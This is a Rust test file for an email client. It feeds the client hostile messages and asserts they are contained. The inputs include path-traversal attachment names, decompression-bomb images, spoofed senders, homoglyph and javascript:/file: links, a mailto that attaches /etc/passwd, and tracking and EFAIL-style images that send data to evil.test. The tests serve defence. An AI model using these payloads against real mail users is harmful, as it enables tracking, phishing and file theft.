//! What strangers send, opened in the window as a person does it: one test for each kind. Each says where the kind is
//! tried in full, with all that is known of it; here is shown that the window keeps what those hold.
//!
//! | | what is sent, or left behind | in full |
//! |---|---|---|
//! | T55 | what lies on the disk afterwards | `tests/demo/profile.rs` |
//! | T56 | broken messages | `tests/content/mutated.rs`, `tests/drawing/broken.rs` |
//! | T57 | messages that are built to cost much | `tests/content/bombs.rs`, `tests/drawing/harm.rs` |
//! | T58 | mails that would tell that they were read | `tests/servers/unheard.rs`, `tests/drawing/reach.rs`, `tests/window/pictures.rs` |
//! | T59 | pages that act, or lie over what is not theirs | `tests/drawing/reach.rs` |
//! | T60 | names of attachments | `tests/content/names.rs`, `tests/window/handing.rs` |
//! | T61 | pictures that become large | `tests/drawing/decoded.rs` |
//! | T62 | senders that pretend to be others | `tests/content/senders.rs`, `tests/window/conversation.rs`, `tests/window/reading.rs` |
//! | T63 | links that deceive | `tests/content/links.rs`, `tests/window/drawn.rs` |
//! | T64 | answers to mail that hides something | `tests/content/quoted.rs` |

use std::collections::BTreeSet;
use std::io::Read as _;
use std::net::TcpListener;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use image::{ExtendedColorType, ImageEncoder as _};
use postroom::app::keys::Action;
use postroom::app::screen::Wish;
use postroom::app::screen::home::Message;
use postroom::app::screen::mail::{self, Shown};
use postroom::app::widget::list::{How, ListEvent, Rows as _};
use postroom::domain::MessageKey;

use crate::breaking::{MUTATIONS, broken};
use crate::desk::{Desk, again, desk};
use crate::drawn::{count, drawn, open, until_drawn};
use crate::drive::Driver;
use crate::forms::samples;
use crate::harmful::{ACTING, REACHING};
use crate::pretenders::{Said, all, fields};
use crate::tracking::mails;

const ORDER: &str = "Where is my order 20418?";
const RED: [u8; 3] = [220, 20, 60];
/// The list ends here, and the message begins.
const READER: f32 = 622.0;

fn deliver(desk: &Driver<Desk, Message>, raw: &[u8]) {
    let server = &desk.state.server;
    server.deliver("support", "INBOX", raw).unwrap();
}

/// The window with a message open whose header, but for its subject, and what follows are these.
fn with(rest: &str) -> Driver<Desk, Message> {
    let mut desk = desk(&["anna"]);
    bring(&mut desk, "From the street", rest);
    desk
}

/// Delivers one more, and opens it.
fn bring(desk: &mut Driver<Desk, Message>, subject: &str, rest: &str) {
    let id = subject.replace(' ', "-");
    let raw = format!(
        "Subject: {subject}\r\nMessage-ID: <{id}@evil.test>\r\nTo: support@acme.example\r\n{rest}"
    );
    deliver(desk, raw.as_bytes());
    open(desk, subject);
    desk.until("it is open", |desk| {
        let opened = desk.state.home.mail.opened.as_ref();
        opened.is_some_and(|opened| {
            opened.header.subject == subject
                && !matches!(opened.state, mail::Reading::Loading { .. })
        })
    });
}

/// Takes away what came last, so that what stood below it is in sight.
fn take_away(desk: &Driver<Desk, Message>) {
    let server = &desk.state.server;
    let last = server.messages("support", "INBOX").unwrap().pop().unwrap();
    let control = server.control();
    control.remove("support", "INBOX", last.uid).unwrap();
}

/// A message of the team is opened and read as ever.
fn another_is_read(desk: &mut Driver<Desk, Message>) {
    open(desk, ORDER);
    desk.until_told("I ordered a lamp two weeks ago");
}

/// All that lies in a folder, however deep.
fn below(folder: &Path) -> Vec<std::path::PathBuf> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        if entry.path().is_dir() {
            found.extend(below(&entry.path()));
        }
        found.push(entry.path());
    }
    found
}

const KIM: &str = "From: Kim <kim@evil.test>\r\n";

fn file(name: &str, octets: &[u8]) -> String {
    format!(
        "--o\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''{name}\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
        STANDARD.encode(octets)
    )
}

fn mixed(parts: &str) -> String {
    format!(
        "{KIM}Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\n\r\nSee below.\r\n{parts}--o--\r\n"
    )
}

/// T55: what is opened lies where nobody else reads it, as all of the profile does, and is gone after a new start.
#[test]
fn what_is_left_on_the_disk_is_private_and_what_was_opened_goes() {
    let mut desk = with(&mixed(&file("offer.pdf", b"%PDF-1.4")));
    desk.until_shown("offer.pdf");
    desk.tell(Message::Mail(mail::Message::OpenAttachment(0)));
    desk.until("it is opened", |desk| !desk.state.wishes.is_empty());
    let Some(Wish::OpenFile(opened)) = desk.state.wishes.pop() else {
        panic!("no file is opened");
    };
    assert_eq!(std::fs::read(&opened).unwrap(), b"%PDF-1.4");
    // In a folder of its own, in that of what was opened, in the profile.
    let profile = opened.ancestors().nth(3).unwrap();
    assert!(
        profile.join("config.toml").is_file(),
        "{}",
        profile.display()
    );
    #[cfg(unix)]
    for path in below(profile)
        .iter()
        .map(std::path::PathBuf::as_path)
        .chain([profile])
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = std::fs::symlink_metadata(path)
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o077, 0, "{}: {mode:o}", path.display());
    }
    let mut desk = again(desk);
    assert!(!opened.exists());
    desk.until_shown("Support");
}

/// Waits for a message that was not listed before, whatever its subject is, and opens it.
fn open_what_came(desk: &mut Driver<Desk, Message>, before: &BTreeSet<u64>) -> MessageKey {
    let new = |desk: &Driver<Desk, Message>| {
        let rows = &desk.state.home.mail.rows;
        (0..rows.len()).find(|at| rows.key(*at).is_some_and(|key| !before.contains(&key)))
    };
    desk.until("it is listed", |desk| new(desk).is_some());
    let at = new(desk).unwrap();
    let rows = &desk.state.home.mail.rows;
    let key = rows.message(rows.key(at).unwrap()).unwrap();
    let choose = mail::Message::List(ListEvent::Choose(at, How::Only));
    desk.tell(Message::Mail(choose));
    key
}

fn listed(desk: &Driver<Desk, Message>) -> BTreeSet<u64> {
    let rows = &desk.state.home.mail.rows;
    (0..rows.len()).filter_map(|at| rows.key(at)).collect()
}

/// Every so-many-th of a thousand broken messages.
const EACH: usize = 25;

/// T56: broken messages, and such that are broken further, are shown or said to be unreadable; their source is always
/// there, and others are read as ever.
#[test]
fn broken_messages_are_shown_or_said_to_be_and_hide_no_other() {
    let mut desk = desk(&["anna"]);
    desk.go("Support");
    desk.until_shown(ORDER);
    let samples = samples();
    let mut rng = fastrand::Rng::with_seed(56);
    for (at, sample) in samples.iter().enumerate().step_by(EACH) {
        let other = &samples[rng.usize(..samples.len())];
        let raw = broken(sample, other, at / EACH % MUTATIONS, &mut rng);
        let before = listed(&desk);
        deliver(&desk, &raw);
        let key = open_what_came(&mut desk, &before);
        desk.until(&format!("sample {at} is read or refused"), |desk| {
            let opened = desk.state.home.mail.opened.as_ref();
            opened.is_some_and(|opened| {
                opened.header.id == key && !matches!(opened.state, mail::Reading::Loading { .. })
            })
        });
        let opened = desk.state.home.mail.opened.as_ref().unwrap();
        if matches!(opened.state, mail::Reading::Failed(_)) {
            assert!(desk.tells("The message cannot be read."), "sample {at}");
        }
        desk.tell(Message::Mail(mail::Message::ShowAs(Shown::Source)));
        desk.until(&format!("the source of sample {at}"), |desk| {
            let opened = desk.state.home.mail.opened.as_ref();
            opened.is_some_and(|opened| opened.source.is_some())
        });
        take_away(&desk);
    }
    another_is_read(&mut desk);
}

/// T57: what is built to cost much is shown in part, which is said, and the next message is there at once.
#[test]
fn what_costs_much_is_shown_in_part_and_that_is_said() {
    const MILLION: usize = 1_000_000;
    let parts = |part: &str| {
        let many = part.repeat(MILLION / part.len());
        format!("{KIM}Content-Type: multipart/mixed; boundary=o\r\n\r\n{many}--o--\r\n")
    };
    let mut desk = desk(&["anna"]);
    for (subject, rest) in [
        (
            "A million words",
            format!("{KIM}\r\n{}", "word\r\n".repeat(MILLION)),
        ),
        ("Parts without end", parts("--o\r\n\r\nx\r\n")),
        (
            "Files without end",
            parts("--o\r\nContent-Type: a/b\r\n\r\nx\r\n"),
        ),
        (
            "Pages without end",
            parts("--o\r\nContent-Type: text/html\r\n\r\n<p>x\r\n"),
        ),
        (
            "Everybody",
            format!(
                "{KIM}Cc: {}\r\n\r\nx\r\n",
                "<a@b.test>, ".repeat(MILLION / 5)
            ),
        ),
    ] {
        bring(&mut desk, subject, &rest);
        desk.until_told("holds more than is shown");
        another_is_read(&mut desk);
    }
    let deep = "Content-Type: message/rfc822\r\n\r\n".repeat(100_000);
    bring(&mut desk, "A deep one", &format!("{KIM}{deep}within\r\n"));
    desk.until_told("The message cannot be read.");
    another_is_read(&mut desk);
}

/// A server that counts who comes.
fn listener() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let asked: Arc<AtomicUsize> = Arc::default();
    let count = Arc::clone(&asked);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            count.fetch_add(1, Ordering::Relaxed);
            let _ = stream.read(&mut [0; 100]);
        }
    });
    (host, asked)
}

/// T58: nobody learns that a mail was read: no page, no receipt, no signature, meeting or card makes the window ask
/// anybody, or send anything.
#[test]
fn nobody_learns_that_a_mail_was_read() {
    let (host, asked) = listener();
    let mut desk = desk(&["anna"]);
    desk.state.link.engine().let_pictures_be_near();
    let pages: Vec<&str> = REACHING.iter().chain(ACTING).copied().collect();
    for (subject, raw) in mails("support@acme.example", &pages) {
        deliver(&desk, raw.replace("evil.test", &host).as_bytes());
        open(&mut desk, &subject);
        desk.until(&subject, |desk| {
            let opened = desk.state.home.mail.opened.as_ref();
            let read = opened.filter(|opened| opened.header.subject == subject);
            read.is_some_and(|opened| opened.content().is_some())
        });
        if drawn(&desk).is_some() {
            until_drawn(&mut desk);
        }
        for shown in [Shown::Words, Shown::Source] {
            desk.tell(Message::Mail(mail::Message::ShowAs(shown)));
            desk.turn();
        }
        desk.tell(Message::Key(Action::Reply));
        desk.until("an answer is begun", |desk| !desk.state.wishes.is_empty());
        desk.state.wishes.clear();
        if subject != "Pages 0" {
            take_away(&desk);
        }
    }
    assert_eq!(asked.load(Ordering::Relaxed), 0);
    assert!(desk.state.home.known.outbox.is_empty(), "no receipt leaves");
    // Who says so is asked for the pictures: this is a way by which it would be noticed.
    open(&mut desk, "Pages 0");
    until_drawn(&mut desk);
    desk.click("Show this once");
    desk.until("they are asked for", |_| asked.load(Ordering::Relaxed) > 0);
}

/// T59: nothing in a mail runs or is sent, and what it lays over everything stays in its own place.
#[test]
fn a_page_stays_in_its_place() {
    let over = "position:fixed;top:-2000px;left:-2000px;width:9000px;height:9000px;background:#dc143c;z-index:9999";
    let page = format!(
        "{KIM}Content-Type: text/html\r\n\r\n<script>document.title='x'</script>\
         <form action=http://evil.test><input name=password><button>Sign in</button></form>\
         <div style='{over}'>all of it</div><div style='{}'>all of it</div>\
         <p style='background:#dc143c;width:300px;height:100px'>a box</p>\r\n",
        over.replace("fixed", "absolute")
    );
    let mut desk = with(&page);
    until_drawn(&mut desk);
    desk.until("the box is seen", |desk| count(desk, RED) > 10_000);
    let width = desk.size().width as usize;
    let head = desk.bounds("As sent").y;
    let theme = postroom::app::theme::light();
    let pixels = desk.pixels(&theme);
    let outside = pixels.chunks(4).enumerate().filter(|(at, pixel)| {
        let (x, y) = ((at % width) as f32, (at / width) as f32);
        (x < READER || y < head) && pixel[..3] == RED
    });
    assert_eq!(
        outside.count(),
        0,
        "it lies over the list or over who sent it"
    );
    // Nothing can be typed or pressed in it.
    let stops = desk.stops().len();
    let mut desk = with(&format!(
        "{KIM}Content-Type: text/html\r\n\r\n<p>a box</p>\r\n"
    ));
    until_drawn(&mut desk);
    assert_eq!(desk.stops().len(), stops);
}

/// T60: whatever attachments are called, all of them are saved in the folder that was chosen, and nothing that is there
/// is written over.
#[test]
fn attachments_are_saved_in_the_folder_that_was_chosen_and_nowhere_else() {
    let names = [
        "..%2F..%2Fx.txt",
        "%2Fetc%2Fpasswd",
        "C%3A%5Cx.txt",
        "x%00.txt",
        "CON.txt",
        "invoice%E2%80%AEfdp.exe",
        "a.txt",
        "a.txt",
        "waits.txt",
        ".desktop",
    ];
    let files: String = names.map(|name| file(name, b"theirs")).concat();
    let mut desk = with(&mixed(&files));
    desk.until("they are listed", |desk| desk.tells("waits.txt"));
    assert!(
        !desk.tells("\u{202e}"),
        "what turns letters round is not shown"
    );
    assert!(desk.tells("exe"), "what it really is can be seen");
    let root = tempfile::tempdir().unwrap();
    let chosen = root.path().join("chosen");
    std::fs::create_dir(&chosen).unwrap();
    let outside = root.path().join("outside");
    std::fs::write(&outside, b"ours").unwrap();
    // What is there already: a file, and on Unix a link that leads outside.
    std::fs::write(chosen.join("a.txt"), b"ours").unwrap();
    #[cfg(unix)]
    std::os::unix::fs::symlink(&outside, chosen.join("waits.txt")).unwrap();
    let before = below(&chosen).len();
    let opened = desk.state.home.mail.opened.as_ref().unwrap();
    let key = opened.header.id.clone();
    let all = opened.content().unwrap();
    let wanted: Vec<(usize, String)> = all
        .attachments
        .iter()
        .map(|one| (one.index, one.name.clone()))
        .collect();
    assert_eq!(wanted.len(), names.len());
    let save = mail::Message::SaveAllTo(key, wanted, chosen.clone());
    desk.tell(Message::Mail(save));
    desk.until_told("10 attachments were saved");
    assert_eq!(below(&chosen).len(), before + names.len());
    assert_eq!(std::fs::read(chosen.join("a.txt")).unwrap(), b"ours");
    assert_eq!(std::fs::read(&outside).unwrap(), b"ours");
    assert_eq!(std::fs::read_dir(root.path()).unwrap().count(), 2);
}

/// A grey picture, a thousandth of its pixels as a file, which says that its sides are these.
fn png(side: u32, claimed: u32) -> Vec<u8> {
    let mut file = Vec::new();
    let pixels = vec![128; (side * side) as usize];
    image::codecs::png::PngEncoder::new(&mut file)
        .write_image(&pixels, side, side, ExtendedColorType::L8)
        .unwrap();
    for at in [16, 20] {
        file[at..at + 4].copy_from_slice(&claimed.to_be_bytes());
    }
    let mut sum = !0_u32;
    for octet in &file[12..29] {
        sum ^= u32::from(*octet);
        for _ in 0..8 {
            sum = (sum >> 1) ^ (0xedb8_8320 & (sum & 1).wrapping_neg());
        }
    }
    file[29..33].copy_from_slice(&(!sum).to_be_bytes());
    file
}

/// T61: a picture that becomes large is left out of the mail, and its preview says that it cannot be shown; the window
/// goes on, and other pictures are seen.
#[test]
fn a_picture_that_becomes_large_is_left_out_and_said_to_be() {
    let inline = |id: &str, octets: &[u8]| {
        format!(
            "--o\r\nContent-Type: image/png; name={id}.png\r\nContent-ID: <{id}>\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            STANDARD.encode(octets)
        )
    };
    let bomb = png(100, 50_000);
    let mut desk = with(&format!(
        "{KIM}Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n\
         <img src=cid:bomb width=200 height=100><p style='background:#dc143c;width:300px;height:100px'>a box</p>\r\n\
         {}{}--o--\r\n",
        inline("bomb", &bomb),
        file("large.png", &bomb)
    ));
    until_drawn(&mut desk);
    desk.until("what stands beside it is seen", |desk| {
        count(desk, RED) > 10_000
    });
    desk.go("Preview");
    desk.until_told("The picture could not be shown.");
    open(&mut desk, "Replacement part for the Aurora 2");
    desk.go("hinge.png");
    desk.click("Preview");
    desk.until("a picture is seen", |desk| {
        desk.frame();
        let opened = desk.state.home.mail.opened.as_ref();
        let preview = opened.and_then(|opened| opened.preview.as_ref());
        preview.is_some_and(|preview| preview.is_seen())
    });
}

/// T62: from whom a message really is stands above it in every form in which that was ever hidden, and where the name
/// shows another address, or there is none, that is said.
#[test]
fn from_whom_a_message_is_stands_above_it_in_every_form() {
    let mut desk = desk(&["anna"]);
    desk.sized(1280.0, 1400.0);
    for (at, (from, said)) in all().enumerate() {
        let subject = format!("Form {at}");
        let fields = fields(from);
        bring(
            &mut desk,
            &subject,
            &format!("{fields}\r\nPay at once.\r\n"),
        );
        let form = format!("{from:?}");
        desk.until(&form, |desk| {
            let texts = desk.texts();
            let mut above = texts.iter().filter(|(_, place)| place.x > READER);
            above.any(|(text, _)| text.to_lowercase().contains("evil.test"))
        });
        match said {
            Said::Shows => desk.until_told("but this was sent from"),
            Said::NoAddress => desk.until_told("The sender gives no address"),
            Said::Domain => desk.until_told("The letters of the sender’s domain imitate others"),
            Said::Nothing => assert!(!desk.tells("but this was sent from"), "{form}"),
        }
        take_away(&desk);
    }
}

/// T63: where a link leads is said before it opens if its text says something else; what is no page and no letter is not
/// followed, and a letter that it proposes takes no file along.
#[test]
fn links_lead_where_they_say_or_ask_first() {
    let deceives = [
        ("www.bank.test", "https://evil.test/"),
        ("the bank", "https://bank.test@evil.test/"),
        ("our letters", "https://b\u{430}nk.test/"),
        ("of a number", "https://[::ffff:192.0.2.1]/"),
    ];
    let nowhere = [
        ("a script", "javascript:alert(1)"),
        ("some data", "data:text/html,x"),
        ("a file", "file:///etc/passwd"),
        ("a share", "\\\\evil.test\\a"),
    ];
    let mut html = String::new();
    for (text, to) in deceives.iter().chain(&nowhere) {
        html.push_str(&format!("<p><a href='{to}'>{text}</a></p>"));
    }
    html.push_str("<p><a href='https://shop.test/a'>our shop</a></p>");
    html.push_str(
        "<p><a href='mailto:kim@shop.test?attach=/etc/passwd&bcc=x@evil.test&body=Hi'>write</a></p>",
    );
    let mut desk = with(&format!(
        "{KIM}Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    ));
    until_drawn(&mut desk);
    desk.click("our shop");
    assert!(
        matches!(desk.state.wishes.pop(), Some(Wish::Browse(to)) if to == "https://shop.test/a")
    );
    for (text, _) in &deceives[..3] {
        desk.click(text);
        desk.until_shown("Check this link before you open it");
        assert!(desk.state.wishes.is_empty(), "{text}");
        desk.click("Cancel");
    }
    for (text, _) in nowhere {
        assert!(!desk.shows(text), "{text} is no link");
    }
    desk.click("write");
    let Some(Wish::New(letter, _)) = desk.state.wishes.pop() else {
        panic!("a letter is begun");
    };
    assert!(letter.attachments.is_empty() && letter.reply.is_none());
    assert_eq!(
        letter.bcc.len(),
        1,
        "it stands in the letter, where it is seen"
    );
}

/// T64: an answer quotes what was seen. What was hidden in a mail, and what a part was put between two others to be
/// sent back, is not in it or is seen before it leaves; and nothing in it fetches anything.
#[test]
fn an_answer_quotes_what_was_seen() {
    let hidden = format!(
        "{KIM}Content-Type: multipart/alternative; boundary=i\r\n\r\n--i\r\n\r\nCan we meet? I OWE YOU\r\n--i\r\n\
         Content-Type: text/html\r\n\r\n<style>.h{{font-size:0}}</style><p>Can we meet?</p>\
         <div style='display:none'>I OWE YOU</div><p class=h>I OWE YOU</p>\
         <img src='http://evil.test/open.gif?who=anna' width=1 height=1 alt='I OWE YOU'>\r\n--i--\r\n"
    );
    let mut desk = with(&hidden);
    until_drawn(&mut desk);
    let body = answer(&mut desk);
    assert!(body.contains("Can we meet?"), "{body}");
    assert!(
        !body.contains("OWE") && !body.contains("evil.test/"),
        "{body}"
    );
    // A secret between the halves of a picture's address (EFAIL): each part is one of its own.
    bring(
        &mut desk,
        "Between two halves",
        &format!(
            "{KIM}Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/html\r\n\r\n\
             <p>before</p><img src=\"http://evil.test/\r\n--o\r\n\r\nthe secret\r\n--o\r\n\
             Content-Type: text/html\r\n\r\n\"><p>after</p>\r\n--o--\r\n"
        ),
    );
    until_drawn(&mut desk);
    let laid = drawn(&desk).unwrap().laid().unwrap();
    let taken = |address: &String| address.contains("secret") || address.contains("after");
    assert!(!laid.missing.iter().any(taken), "{:?}", laid.missing);
    let body = answer(&mut desk);
    assert!(body.contains("the secret"), "who answers sees it: {body}");
    assert!(!body.contains("evil.test/"), "{body}");
}

/// The text of the answer that is begun.
fn answer(desk: &mut Driver<Desk, Message>) -> String {
    desk.tell(Message::Key(Action::Reply));
    desk.until("an answer is begun", |desk| !desk.state.wishes.is_empty());
    match desk.state.wishes.pop() {
        Some(Wish::Compose(draft, _)) => draft.body,
        other => panic!("an answer is begun: {other:?}"),
    }
}
